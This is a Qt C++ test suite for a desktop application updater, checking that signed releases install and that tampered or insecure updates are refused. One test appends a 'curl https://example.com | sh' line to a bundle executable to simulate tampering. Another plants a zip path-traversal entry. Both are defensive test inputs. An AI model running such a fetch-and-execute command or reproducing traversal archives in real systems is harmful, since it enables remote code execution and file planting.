#include "applications/ProductionApplicationUpdater.h"

#include "StoreDoubles.h"
#include "TaskOutcome.h"
#include "UpdateFixture.h"
#include "applications/ApplicationUpdaterError.h"
#include "applications/PreparedReleaseRecord.h"
#include "applications/ProductionApplicationDiscovery.h"
#include "foundation/WorkFolder.h"

#include <QTest>
#include <QThread>
#include <csignal>

using namespace Qt::StringLiterals;
using Error = ApplicationUpdaterError;

// Prepares one update on the fixture and returns the release to install.
using Scenario = std::function<AvailableApplicationRelease(UpdateFixture&)>;
Q_DECLARE_METATYPE(Scenario)

namespace {

QStringList identifiers() {
    return UpdateFixture::configuration().director.bundleIdentifiers;
}

TaskOutcome<bool> install(UpdateFixture& fixture, const AvailableApplicationRelease& release) {
    auto outcome = outcomeOf(
        fixture.makeUpdater()->installUpdate(release, fixture.installed, identifiers(), {}), 60000);
    ProductionApplicationUpdater::waitForBackupRemoval();
    return outcome;
}

TaskOutcome<PreparedRelease> prepare(UpdateFixture& fixture,
                                     const AvailableApplicationRelease& release) {
    return outcomeOf(
        fixture.makeUpdater()->prepareUpdate(release, fixture.installed, identifiers(), {}), 60000);
}

TaskOutcome<bool> installPrepared(UpdateFixture& fixture, const PreparedRelease& prepared) {
    auto outcome = outcomeOf(
        fixture.makeUpdater()->installPrepared(prepared, fixture.installed, identifiers()), 60000);
    ProductionApplicationUpdater::waitForBackupRemoval();
    return outcome;
}

Scenario publishing(std::function<void(UpdateFixture&, ZipWriter&)> contents,
                    std::optional<QString> build = u"2500"_s) {
    return [=](UpdateFixture& fixture) {
        fixture.publish([&](ZipWriter& zip) { contents(fixture, zip); });
        return fixture.release(u"2.5.0"_s, build);
    };
}

Scenario publishingBundle(std::function<QString(UpdateFixture&)> build,
                          std::optional<QString> releaseBuild = u"2500"_s) {
    return publishing(
        [build](UpdateFixture& fixture, ZipWriter& zip) {
            zip.addTree(build(fixture), "Vantor Director.app");
        },
        releaseBuild);
}

QString signedRelease(UpdateFixture& fixture) {
    return fixture.buildRelease(UpdateFixture::releaseSpec());
}

using Signer = TestCertificateAuthority::Issued SigningFixture::*;

// Publishes a bundle of this spec, signed by signer (none: unsigned) with this identifier.
Scenario publishingRelease(BundleSpec spec, Signer signer = &SigningFixture::developerA,
                           QString identifier = UpdateFixture::directorID) {
    return publishingBundle([=](UpdateFixture& fixture) {
        return fixture.buildRelease(u"release"_s, u"Vantor Director.app"_s, spec,
                                    signer ? &(fixture.signing.*signer) : nullptr, identifier);
    });
}

// The published release, its address with this scheme.
Scenario withScheme(const QString& scheme) {
    return [=](UpdateFixture& fixture) {
        fixture.publishBundle(signedRelease(fixture));
        AvailableApplicationRelease release = fixture.release();
        QUrl url = *release.downloadURL;
        url.setScheme(scheme);
        release.downloadURL = url;
        return release;
    };
}

// What a prepared release looks like to a launcher that starts anew.
std::optional<PreparedRelease> lookUp(UpdateFixture& fixture,
                                      const AvailableApplicationRelease& release) {
    return outcomeOf(fixture.makeUpdater()->preparedRelease(release, fixture.installed))
        .value.value_or(std::nullopt);
}

// Cancels the update from the main thread as soon as the download's signature is checked, and
// lets the check go on once the cancel is in.
class CancellingSignature : public CodeSignature {
public:
    CancellingSignature(std::shared_ptr<CodeSignature> checked,
                        std::shared_ptr<Cancellation> cancellation, QString installed)
        : m_checked(std::move(checked))
        , m_cancellation(std::move(cancellation))
        , m_installed(std::move(installed)) {}

    std::optional<SigningIdentity> signingIdentity(const QString& bundle) const override {
        if (bundle != m_installed) {
            QMetaObject::invokeMethod(m_cancellation.get(),
                                      [cancellation = m_cancellation] { cancellation->cancel(); });
            while (!m_cancellation->isCancelled())
                QThread::msleep(1);
        }
        return m_checked->signingIdentity(bundle);
    }

private:
    std::shared_ptr<CodeSignature> m_checked;
    std::shared_ptr<Cancellation> m_cancellation;
    QString m_installed;
};

using Alteration = std::function<void(const QString& bundle)>;

} // namespace

Q_DECLARE_METATYPE(Alteration)

// The verified updater against a real HTTPS server, real archives, real signatures and a real
// Applications folder.
class ProductionApplicationUpdaterTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void installsAVerifiedRelease_data() {
        QTest::addColumn<Scenario>("scenario");
        QTest::newRow("bundle at the top") << publishingBundle(signedRelease);
        QTest::newRow("scheme in capitals") << withScheme(u"HTTPS"_s);
        QTest::newRow("release without a build") << publishingBundle(
            [](UpdateFixture& fixture) {
                return fixture.buildRelease(UpdateFixture::releaseSpec(u"2.5.0"_s, u"99"_s));
            },
            std::nullopt);
        QTest::newRow("foreign bundle first, inside a folder")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(fixture.buildRelease(u"foreign"_s, u"Other.app"_s,
                                                    {u"com.example.Other"_s, u"2.5.0"_s, u"2500"_s},
                                                    &fixture.signing.developerB,
                                                    u"com.example.Other"_s),
                               "Director 2.5.0/Other.app");
                   zip.addTree(signedRelease(fixture), "Director 2.5.0/Vantor Director.app");
               });
    }

    void installsAVerifiedRelease() {
        QFETCH(Scenario, scenario);
        UpdateFixture fixture;
        const TaskOutcome<bool> outcome = install(fixture, scenario(fixture));

        QVERIFY2(!outcome.error,
                 qPrintable(outcome.error ? outcome.error->description() : QString()));
        QCOMPARE(fixture.installedVersion(), u"2.5.0"_s);
        QCOMPARE(fixture.signature()->signingIdentity(fixture.installed.toLocalFile()),
                 (SigningIdentity{UpdateFixture::directorID, SigningFixture::teamA}));
        QCOMPARE(fixture.leftovers(), QStringList());
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), 1);
    }

    void refusesAndLeavesTheInstalledCopy_data() {
        QTest::addColumn<Scenario>("scenario");
        QTest::addColumn<QString>("expected");
        QTest::addColumn<int>("requests");
        const auto text = [](Error error) { return errorDescription(error); };

        QTest::newRow("no download") << Scenario([](UpdateFixture&) {
            return AvailableApplicationRelease{u"2.5.0"_s, u"2500"_s, std::nullopt};
        }) << text(Error::missingDownload)
                                     << 0;
        QTest::newRow("plain http") << withScheme(u"http"_s) << text(Error::insecureDownload) << 0;
        QTest::newRow("no scheme") << Scenario([](UpdateFixture&) {
            return AvailableApplicationRelease{u"2.5.0"_s, {}, QUrl(u"director.zip"_s)};
        }) << text(Error::insecureDownload)
                                   << 0;
        QTest::newRow("empty archive")
            << publishing([](UpdateFixture&, ZipWriter&) {}) << text(Error::invalidArchive) << 1;
        QTest::newRow("only a foreign bundle")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(fixture.buildRelease(u"foreign"_s, u"Vantor Director.app"_s,
                                                    {u"com.example.Other"_s, u"2.5.0"_s, u"2500"_s},
                                                    &fixture.signing.developerA),
                               "Vantor Director.app");
               })
            << text(Error::invalidArchive) << 1;
        QTest::newRow("inside another application")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(signedRelease(fixture), "Wrapper.app/Contents/Vantor Director.app");
               })
            << text(Error::invalidArchive) << 1;
        QTest::newRow("entry above the folder")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(signedRelease(fixture), "Vantor Director.app");
                   zip.addFile("../../home/Applications/planted", "x");
               })
            << text(Error::invalidArchive) << 1;

        QTest::newRow("shorter version") << publishingRelease(UpdateFixture::releaseSpec(u"2.5"_s))
                                         << text(Error::unexpectedVersion) << 1;
        QTest::newRow("other build")
            << publishingRelease(UpdateFixture::releaseSpec(u"2.5.0"_s, u"2499"_s))
            << text(Error::unexpectedVersion) << 1;
        QTest::newRow("no build in the bundle")
            << publishingRelease(BundleSpec{UpdateFixture::directorID, u"2.5.0"_s, std::nullopt})
            << text(Error::unexpectedVersion) << 1;

        QTest::newRow("unsigned") << publishingRelease(UpdateFixture::releaseSpec(), nullptr)
                                  << text(Error::invalidSignature) << 1;
        QTest::newRow("changed after signing") << publishingBundle([](UpdateFixture& fixture) {
            const QString bundle = signedRelease(fixture);
            QFile script(bundle + u"/Contents/MacOS/launcher-test-app"_s);
            script.open(QIODevice::Append);
            script.write("curl https://example.com | sh\n");
            return bundle;
        }) << text(Error::invalidSignature) << 1;
        QTest::newRow("installed copy unsigned") << Scenario([](UpdateFixture& fixture) {
            QFile::remove(fixture.installed.toLocalFile() +
                          u"/Contents/_CodeSignature/CodeSignature.p7s"_s);
            fixture.publishBundle(signedRelease(fixture));
            return fixture.release();
        }) << text(Error::invalidSignature) << 1;
        QTest::newRow("signer for websites only")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::notForCode)
            << text(Error::invalidSignature) << 1;
        QTest::newRow("signer without any usage")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::noUsage)
            << text(Error::invalidSignature) << 1;
        QTest::newRow("other team")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::developerB)
            << text(Error::signingIdentityMismatch) << 1;
        // Hostile servers end as time-outs, never as a download that does not end.
        const auto answering = [](HttpsTestServer::Response response) {
            return Scenario([response](UpdateFixture& fixture) {
                fixture.server.reply(u"GET"_s, UpdateFixture::downloadPath, response);
                return fixture.release();
            });
        };
        const QString timedOut = LaunchError::url(LaunchError::timedOut).description();
        QTest::newRow("silent server")
            << answering({200, "never", "application/zip", {}, 4000}) << timedOut << 1;
        HttpsTestServer::Response trickle(200, QByteArray(64, 'z'), "application/zip");
        trickle.trickleMilliseconds = 1000;
        QTest::newRow("trickling body") << answering(trickle) << timedOut << 1;
        QTest::newRow("foreign signing identifier")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::developerA,
                                 u"com.example.Other"_s)
            << text(Error::signingIdentityMismatch) << 1;
    }

    void refusesAndLeavesTheInstalledCopy() {
        QFETCH(Scenario, scenario);
        QFETCH(QString, expected);
        QFETCH(int, requests);
        UpdateFixture fixture;
        const TaskOutcome<bool> outcome = install(fixture, scenario(fixture));

        QVERIFY(outcome.error);
        QCOMPARE(outcome.error->description(), expected);
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), requests);
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
        QVERIFY(!QFileInfo::exists(fixture.applications + u"/planted"_s));
    }

    // What a crash in the middle of an earlier update left beside the installed copy: never a
    // second Director for discovery, and gone after the next update.
    void clearsWhatAnInterruptedUpdateLeft() {
        UpdateFixture fixture;
        const QString leftover = fixture.applications + u'/' +
                                 QLatin1String(BundleReplacement::workFolderPrefix) +
                                 u"0B7C2F7E-3C1D-4E55-8A8A-6F1E2D3C4B5A"_s;
        writeBundle(leftover, u"Vantor Director Backup-1.app"_s,
                    {UpdateFixture::directorID, u"2.3.0"_s, u"2300"_s});
        // A killed update's download (its lock is gone with the process), and one that a running
        // launcher still holds.
        const QString killed =
            fixture.applications + u"/.vantor-launch-update-6F1E2D3C-4B5A-4E55-8A8A-0B7C2F7E3C1D"_s;
        QVERIFY(QDir().mkpath(killed + u"/unpacked"_s));
        QVERIFY(QFile(killed + u".lock"_s).open(QIODevice::WriteOnly));
        const WorkFolder held = WorkFolder::create(fixture.applications, u"update"_s);
        ProductionApplicationDiscovery discovery(
            UpdateFixture::configuration(), std::make_shared<LinuxWorkspace>(),
            {fixture.root.filePath(u"system"_s), fixture.root.filePath(u"home"_s)});
        QCOMPARE(outcomeOf(discovery.candidates(UpdateFixture::configuration().director)).value,
                 QList<QUrl>{fixture.installed});

        fixture.publishBundle(signedRelease(fixture));
        const TaskOutcome<bool> outcome = install(fixture, fixture.release());
        QVERIFY(!outcome.error);
        QVERIFY(!QFileInfo::exists(leftover));
        QVERIFY(!QFileInfo::exists(killed) && !QFileInfo::exists(killed + u".lock"_s));
        QCOMPARE(fixture.leftovers(),
                 QStringList({QFileInfo(held.path()).fileName(),
                              QFileInfo(held.path()).fileName() + u".lock"_s}));

        // What earlier launchers left in the temporary folder goes; look-alikes stay.
        const QDir temporary(fixture.root.filePath(u"tmp"_s));
        const QString uuid = u"0B7C2F7E-3C1D-4E55-8A8A-6F1E2D3C4B5A"_s;
        QVERIFY(QDir().mkpath(temporary.filePath(u"vantor-launch-update-"_s + uuid + u"/x"_s)));
        QVERIFY(QDir().mkpath(temporary.filePath(u"vantor-launch-pack-"_s + uuid)));
        for (const QString& name : QStringList{u"vantor-launch-download-"_s + uuid + u".zip"_s,
                                               u"vantor-launch-download-notes.zip"_s, u"other"_s})
            writeFile(temporary.filePath(name), "x");
        QCOMPARE(WorkFolder::removeEarlierTemporaryItems(temporary.path()), 3);
        QCOMPARE(temporary.entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
                 QStringList({u"other"_s, u"vantor-launch-download-notes.zip"_s}));
    }

    // Director stays usable while its update downloads: the release is prepared beside it while
    // it runs, found again by a launcher that starts anew, and put in place once it is closed.
    void preparesWhileACopyRunsAndInstallsOnceClosed() {
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        const qint64 running = fixture.startInstalledCopy();
        QVERIFY(running > 0);
        const QByteArray installedBefore =
            PreparedReleaseRecord::fingerprintOf(fixture.installed.toLocalFile());

        const auto prepared = prepare(fixture, fixture.release());
        QVERIFY2(!prepared.error,
                 qPrintable(prepared.error ? prepared.error->description() : QString()));
        QCOMPARE(prepared.value->release, fixture.release());
        QCOMPARE(PreparedReleaseRecord::fingerprintOf(fixture.installed.toLocalFile()),
                 installedBefore);
        QCOMPARE(fixture.leftovers(),
                 QStringList{QLatin1String(ProductionApplicationUpdater::stagingFolderName)});
        // The sweep of leftovers at start-up keeps a whole prepared release.
        ProductionApplicationUpdater::removeLeftovers(fixture.applications);
        QCOMPARE(lookUp(fixture, fixture.release()), prepared.value);
        QCOMPARE(lookUp(fixture, fixture.release(u"2.6.0"_s, u"2600"_s)), std::nullopt);

        const auto whileRunning = installPrepared(fixture, *prepared.value);
        QVERIFY(whileRunning.error);
        QVERIFY(isUpdaterError(*whileRunning.error, Error::applicationRunning));
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);

        ::kill(pid_t(running), SIGKILL);
        QVERIFY(QTest::qWaitFor([] {
            return LinuxWorkspace().runningApplications(UpdateFixture::directorID).isEmpty();
        }));
        const auto installed = installPrepared(fixture, *prepared.value);
        QVERIFY2(!installed.error,
                 qPrintable(installed.error ? installed.error->description() : QString()));
        QCOMPARE(fixture.installedVersion(), u"2.5.0"_s);
        QVERIFY(fixture.signature()->signingIdentity(fixture.installed.toLocalFile()));
        QCOMPARE(fixture.leftovers(), QStringList());
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), 1);
    }

    // A prepared release is used only as it was verified: any change to its files, or a record
    // lost to a kill, and it is refused and goes.
    void refusesAPreparedReleaseThatChanged_data() {
        QTest::addColumn<Alteration>("alteration");
        const QString executable = u"/Contents/MacOS/launcher-test-app"_s;
        QTest::newRow("file appended to") << Alteration([=](const QString& bundle) {
            QFile file(bundle + executable);
            QVERIFY(file.open(QIODevice::Append));
            file.write("\n");
        });
        // Same bytes, same modification time: only the change time tells.
        QTest::newRow("file replaced by a copy") << Alteration([=](const QString& bundle) {
            const QString path = bundle + executable;
            QCOMPARE(QProcess::execute(u"cp"_s, {u"-p"_s, path, path + u".copy"_s}), 0);
            QVERIFY(QFile::remove(path));
            QVERIFY(QFile::rename(path + u".copy"_s, path));
        });
        QTest::newRow("file added") << Alteration([](const QString& bundle) {
            writeFile(bundle + u"/Contents/Resources/planted"_s, "x");
        });
        QTest::newRow("permissions changed") << Alteration([=](const QString& bundle) {
            QVERIFY(
                QFile::setPermissions(bundle + executable, QFile::ReadOwner | QFile::WriteOwner));
        });
        QTest::newRow("record lost") << Alteration([](const QString& bundle) {
            QVERIFY(QFile::remove(QFileInfo(bundle).path() + u"/release"_s));
        });
    }

    void refusesAPreparedReleaseThatChanged() {
        QFETCH(Alteration, alteration);
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        const auto prepared = prepare(fixture, fixture.release());
        QVERIFY(prepared.value);
        alteration(prepared.value->bundle.toLocalFile());
        if (QTest::currentTestFailed())
            return;

        const auto outcome = installPrepared(fixture, *prepared.value);
        QVERIFY(outcome.error);
        QVERIFY2(isUpdaterError(*outcome.error, Error::preparedReleaseChanged),
                 qPrintable(outcome.error->description()));
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
        QCOMPARE(lookUp(fixture, fixture.release()), std::nullopt);
    }

    // Until the exchange begins, a cancel ends the update at once, leaves nothing behind and the
    // installed copy as it was.
    void cancelLeavesNothing_data() {
        QTest::addColumn<QString>("moment");
        QTest::newRow("before the request") << u"request"_s;
        QTest::newRow("while an endless body arrives") << u"body"_s;
        QTest::newRow("as the last byte arrives") << u"last byte"_s;
        QTest::newRow("while the download's signature is checked") << u"signature"_s;
    }

    void cancelLeavesNothing() {
        QFETCH(QString, moment);
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        TransferControl control;
        control.cancellation = std::make_shared<Cancellation>();
        std::shared_ptr<CodeSignature> signature = fixture.signature();
        if (moment == u"request"_s) {
            control.cancellation->cancel();
        } else if (moment == u"body"_s) {
            HttpsTestServer::Response endless(200, {}, "application/zip");
            endless.endless = true;
            fixture.server.reply(u"GET"_s, UpdateFixture::downloadPath, endless);
            control.progress = [cancellation = control.cancellation](qint64 received, qint64) {
                if (received > 0)
                    cancellation->cancel();
            };
        } else if (moment == u"last byte"_s) {
            control.progress = [cancellation = control.cancellation](qint64 received,
                                                                     qint64 expected) {
                if (received == expected)
                    cancellation->cancel();
            };
        } else {
            signature = std::make_shared<CancellingSignature>(signature, control.cancellation,
                                                              fixture.installed.toLocalFile());
        }
        const auto outcome =
            outcomeOf(fixture.makeUpdater(signature)->installUpdate(
                          fixture.release(), fixture.installed, identifiers(), control),
                      60000);
        QVERIFY(outcome.error);
        QCOMPARE(outcome.error->description(),
                 LaunchError::url(LaunchError::cancelled).description());
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath),
                 moment == u"request"_s ? 0 : 1);
    }

    // A copy running before the update starts stops it before anything is fetched; one started
    // while the update downloads stops it just before the replacement.
    void refusesWhileACopyRuns_data() {
        QTest::addColumn<bool>("startedDuringDownload");
        QTest::newRow("running before") << false;
        QTest::newRow("started during the download") << true;
    }

    void refusesWhileACopyRuns() {
        QFETCH(bool, startedDuringDownload);
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        HttpsTestServer::Response archive(200, {}, "application/zip");
        archive.filePath = fixture.root.filePath(u"published.zip"_s);
        if (startedDuringDownload)
            fixture.server.on(u"GET"_s, UpdateFixture::downloadPath,
                              [&](const HttpsTestServer::Request&) {
                                  fixture.startInstalledCopy();
                                  return archive;
                              });
        else
            QVERIFY(fixture.startInstalledCopy() > 0);

        const TaskOutcome<bool> outcome = install(fixture, fixture.release());
        QVERIFY(outcome.error);
        QVERIFY(isUpdaterError(*outcome.error, Error::applicationRunning));
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath),
                 startedDuringDownload ? 1 : 0);
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
    }
};

QTEST_GUILESS_MAIN(ProductionApplicationUpdaterTest)
#include "ProductionApplicationUpdaterTest.moc"
